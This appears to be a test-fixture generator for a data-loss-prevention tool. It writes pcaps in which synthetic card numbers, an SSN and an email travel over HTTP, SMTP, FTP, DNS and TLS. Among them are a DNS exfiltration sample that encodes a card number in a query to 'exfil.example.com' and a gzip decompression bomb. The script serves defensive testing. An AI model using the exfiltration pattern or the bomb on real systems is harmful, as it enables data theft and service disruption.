@@ -1,0 +1,193 @@
+#!/usr/bin/python3
+"""gen_app.py OUTDIR - application-layer captures (tests/integration/test_app.py).
+
+Each capture carries synthetic personal data the way applications really send it:
+chunked and gzip'd HTTP bodies, percent-encoded forms, multipart uploads, MIME mail with
+base64 and quoted-printable parts, FTP uploads on a passive data connection, DNS names,
+UTF-16 documents; plus TLS and STARTTLS flows that cannot be inspected, and a
+decompression bomb. pcaps/README.md lists the values and what each must produce."""
+import base64
+import gzip
+import quopri
+import sys
+
+from scapy.layers.dns import DNS, DNSQR
+
+from tcpgen import Capture, TcpSession, http_response, out_path, udp_send
+
+IN, OUT = "10.0.0.41", "198.51.100.50"
+CARD = b"4539148803436467"        # Luhn-valid synthetic Visa
+CARD2 = b"5425233430109903"       # Luhn-valid synthetic Mastercard
+SSN = b"536-22-8417"
+EMAIL = b"jane.doe@example.com"
+OK = http_response(b"ok\n", "text/plain")
+
+
+def post(host, path, body, ctype, extra=b""):
+    return (b"POST " + path + b" HTTP/1.1\r\nHost: " + host + b"\r\nContent-Type: " + ctype +
+            b"\r\nContent-Length: " + str(len(body)).encode() + b"\r\n" + extra + b"\r\n" + body)
+
+
+def session(cap, cport, sport, turns, cip=IN, sip=OUT, mss=1460, close=True):
+    """turns: [("c"|"s", bytes)] in order."""
+    s = TcpSession(cap, cip, sip, cport, sport, mss=mss)
+    s.handshake()
+    for who, data in turns:
+        s.send(who, data)
+    if close:
+        s.close()
+    cap.clock.advance(0.1)
+    return s
+
+
+def chunked(pieces):
+    out = b""
+    for i, p in enumerate(pieces):
+        out += b"%x;ext=%d\r\n" % (len(p), i) + p + b"\r\n"
+    return out + b"0\r\nX-Trailer: done\r\n\r\n"
+
+
+def http_captures(outdir):
+    # chunked: the card number is cut across two chunk boundaries
+    cap = Capture()
+    body = chunked([b"note=card " + CARD[:5], CARD[5:11], CARD[11:] + b" end"])
+    req = (b"POST /upload HTTP/1.1\r\nHost: chunks.example.com\r\nContent-Type: text/plain\r\n"
+           b"Transfer-Encoding: chunked\r\n\r\n" + body)
+    session(cap, 47001, 80, [("c", req), ("s", OK)])
+    cap.write_pcap(out_path(outdir, "http-chunked-card.pcap"))
+
+    # gzip request body (a JSON record with an SSN)
+    cap = Capture()
+    raw = b'{"employee":"John Smith","ssn":"' + SSN + b'","note":"' + b"x" * 400 + b'"}'
+    z = gzip.compress(raw, mtime=0)
+    session(cap, 47002, 80, [("c", post(b"api.example.com", b"/v1/hr", z, b"application/json",
+                                        b"Content-Encoding: gzip\r\n")), ("s", OK)])
+    cap.write_pcap(out_path(outdir, "http-gzip-body.pcap"))
+
+    # form-urlencoded with the address written %40
+    cap = Capture()
+    form = b"name=Jane+Doe&contact=jane.doe%40example.com&ref=1"
+    session(cap, 47003, 80, [("c", post(b"forms.example.com", b"/f", form,
+                                        b"application/x-www-form-urlencoded")), ("s", OK)])
+    cap.write_pcap(out_path(outdir, "http-form-pct40.pcap"))
+
+    # multipart/form-data upload of a CSV file
+    cap = Capture()
+    csv = b"name,email,card\r\nJane Doe," + EMAIL + b"," + CARD + b"\r\n"
+    b_ = b"----dlpboundary7"
+    mp = (b"--" + b_ + b"\r\nContent-Disposition: form-data; name=\"comment\"\r\n\r\nquarterly\r\n"
+          b"--" + b_ + b"\r\nContent-Disposition: form-data; name=\"file\"; "
+          b"filename=\"customers.csv\"\r\nContent-Type: text/csv\r\n\r\n" + csv +
+          b"\r\n--" + b_ + b"--\r\n")
+    session(cap, 47004, 80, [("c", post(b"files.example.com", b"/up", mp,
+                                        b"multipart/form-data; boundary=" + b_)), ("s", OK)])
+    cap.write_pcap(out_path(outdir, "http-multipart-csv.pcap"))
+
+    # HTTP over IPv6
+    cap = Capture()
+    session(cap, 47005, 80, [("c", post(b"v6.example.com", b"/p", b"mail=" + EMAIL + b"\n",
+                                        b"text/plain")), ("s", OK)],
+            cip="fd00::41", sip="2001:db8::50")
+    cap.write_pcap(out_path(outdir, "http-ipv6.pcap"))
+
+    # a UTF-16LE document (with BOM) carrying a card number
+    cap = Capture()
+    doc = "\ufeffCustomer record\r\nCard: 4539 1488 0343 6467\r\n".encode("utf-16-le")
+    session(cap, 47006, 80, [("c", post(b"docs.example.com", b"/doc", doc,
+                                        b"text/plain; charset=utf-16")), ("s", OK)])
+    cap.write_pcap(out_path(outdir, "http-utf16-upload.pcap"))
+
+    # keep-alive: three requests on one connection, values in the 2nd and 3rd
+    cap = Capture()
+    r1 = b"GET /a HTTP/1.1\r\nHost: ka.example.com\r\n\r\n"
+    r2 = post(b"ka.example.com", b"/b", b"ssn=" + SSN, b"application/x-www-form-urlencoded")
+    r3 = post(b"ka.example.com", b"/c", b"card=" + CARD, b"application/x-www-form-urlencoded")
+    session(cap, 47007, 80, [("c", r1), ("s", OK), ("c", r2), ("s", OK), ("c", r3), ("s", OK)])
+    cap.write_pcap(out_path(outdir, "http-keepalive-three.pcap"))
+
+    # a decompression bomb: 64 MiB of zeros gzip'd, then a card after it in the body
+    cap = Capture()
+    bomb = gzip.compress(b"\0" * (64 << 20) + b" card " + CARD, mtime=0, compresslevel=9)
+    session(cap, 47008, 80, [("c", post(b"bomb.example.com", b"/z", bomb, b"text/plain",
+                                        b"Content-Encoding: gzip\r\n")), ("s", OK)])
+    cap.write_pcap(out_path(outdir, "http-gzip-bomb.pcap"))
+
+
+def smtp_capture(outdir):
+    cap = Capture()
+    qp_text = (b"Hello,\r\nthe employee's SSN is " + SSN[:6] + b"=\r\n" + SSN[6:] +
+               b" and his card " + CARD + b".\r\nRegards=\r\n\r\n")
+    att = base64.encodebytes(b"name,card\r\nJane Doe," + CARD2 + b"\r\n").replace(b"\n", b"\r\n")
+    msg = (b"From: Jane Doe <" + EMAIL + b">\r\nTo: partner@example.net\r\n"
+           b"Subject: =?utf-8?B?" + base64.b64encode("Données clients".encode()) + b"?=\r\n"
+           b"MIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=\"b1\"\r\n\r\n"
+           b"--b1\r\nContent-Type: text/plain; charset=utf-8\r\n"
+           b"Content-Transfer-Encoding: quoted-printable\r\n\r\n" + qp_text +
+           b"--b1\r\nContent-Type: text/csv; name=\"cards.csv\"\r\n"
+           b"Content-Disposition: attachment; filename=\"cards.csv\"\r\n"
+           b"Content-Transfer-Encoding: base64\r\n\r\n" + att + b"--b1--\r\n")
+    turns = [("s", b"220 mx.example.net ESMTP\r\n"), ("c", b"EHLO ws41.corp.example\r\n"),
+             ("s", b"250-mx.example.net\r\n250 8BITMIME\r\n"),
+             ("c", b"MAIL FROM:<" + EMAIL + b">\r\n"), ("s", b"250 OK\r\n"),
+             ("c", b"RCPT TO:<partner@example.net>\r\n"), ("s", b"250 OK\r\n"),
+             ("c", b"DATA\r\n"), ("s", b"354 go ahead\r\n"),
+             ("c", msg + b".\r\n"), ("s", b"250 queued\r\n"),
+             ("c", b"QUIT\r\n"), ("s", b"221 bye\r\n")]
+    session(cap, 47010, 25, turns)
+    # STARTTLS: nothing after it can be read
+    turns = [("s", b"220 mx.example.net ESMTP\r\n"), ("c", b"EHLO ws41\r\n"),
+             ("s", b"250-mx\r\n250 STARTTLS\r\n"), ("c", b"STARTTLS\r\n"),
+             ("s", b"220 ready\r\n"), ("c", b"\x16\x03\x01\x00\x05hello" + b"\x17" * 300)]
+    session(cap, 47011, 25, turns)
+    cap.write_pcap(out_path(outdir, "smtp-mime-qp-base64.pcap"))
+
+
+def ftp_capture(outdir):
+    cap = Capture()
+    ctl = TcpSession(cap, IN, OUT, 47020, 21)
+    ctl.handshake()
+    for who, line in [("s", b"220 ftp.example.net FTP ready\r\n"), ("c", b"USER alice\r\n"),
+                      ("s", b"331 password\r\n"), ("c", b"PASS secret\r\n"),
+                      ("s", b"230 logged in\r\n"), ("c", b"TYPE I\r\n"), ("s", b"200 ok\r\n"),
+                      ("c", b"PASV\r\n"),
+                      ("s", b"227 Entering Passive Mode (198,51,100,50,195,80).\r\n"),
+                      ("c", b"STOR customers.csv\r\n"), ("s", b"150 ok\r\n")]:
+        ctl.send(who, line)
+    data = TcpSession(cap, IN, OUT, 47021, 195 * 256 + 80)
+    data.handshake()
+    data.send("c", b"name,email,ssn\r\nJohn Smith,john.smith@example.org," + SSN + b"\r\n")
+    data.close()
+    ctl.send("s", b"226 transfer complete\r\n")
+    ctl.send("c", b"QUIT\r\n")
+    ctl.send("s", b"221 bye\r\n")
+    ctl.close()
+    cap.write_pcap(out_path(outdir, "ftp-passive-upload.pcap"))
+
+
+def dns_tls_capture(outdir):
+    cap = Capture()
+    q = DNS(id=0x4242, rd=1, qd=DNSQR(qname=CARD.decode() + ".exfil.example.com", qtype="TXT"))
+    udp_send(cap, IN, "203.0.113.53", 53333, 53, bytes(q), ipid=0x0100)
+    # a TLS ClientHello with SNI, then application data: classified, not inspected
+    sni = b"secure.example.com"
+    ext = b"\x00\x00" + (len(sni) + 5).to_bytes(2, "big") + (len(sni) + 3).to_bytes(2, "big") + \
+        b"\x00" + len(sni).to_bytes(2, "big") + sni + b"\x00\x2b\x00\x03\x02\x03\x04"
+    hello = (b"\x03\x03" + b"\x11" * 32 + b"\x00" + b"\x00\x02\x13\x01" + b"\x01\x00" +
+             len(ext).to_bytes(2, "big") + ext)
+    hs = b"\x01" + len(hello).to_bytes(3, "big") + hello
+    rec = b"\x16\x03\x01" + len(hs).to_bytes(2, "big") + hs
+    session(cap, 47030, 443, [("c", rec), ("s", b"\x16\x03\x03\x00\x04\x0e\x00\x00\x00"),
+                               ("c", b"\x17\x03\x03\x00\x20" + CARD * 2)])
+    cap.write_pcap(out_path(outdir, "dns-tls.pcap"))
+
+
+def main():
+    outdir = sys.argv[1]
+    http_captures(outdir)
+    smtp_capture(outdir)
+    ftp_capture(outdir)
+    dns_tls_capture(outdir)
+
+
+if __name__ == "__main__":
+    main()
